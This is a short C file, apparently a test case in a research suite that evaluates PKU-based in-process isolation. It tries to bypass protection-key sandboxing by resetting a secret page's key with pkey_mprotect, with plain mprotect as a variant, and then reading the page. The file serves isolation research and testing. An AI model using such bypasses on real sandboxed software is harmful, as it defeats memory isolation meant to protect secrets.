/* C1: the kernel gives the domain's pages another key, or other protection. Plain
 * mprotect keeps the key: a control on pku, the attack itself on mprotect.
 *
 * Source: [PKU Pitfalls], [pkeys(7)].
 */
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

static void default_key(void) {
    TRY("pkey_mprotect", syscall(SYS_pkey_mprotect, target.secret, PAGE_BYTES, PROT_READ | PROT_WRITE, 0));
    attack_read();
}

static void same_key(void) {
    TRY("mprotect", syscall(SYS_mprotect, target.secret, PAGE_BYTES, PROT_READ | PROT_WRITE));
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "pkey_mprotect", .attack = default_key},
    {.variant = "mprotect", .attack = same_key},
    {0},
};
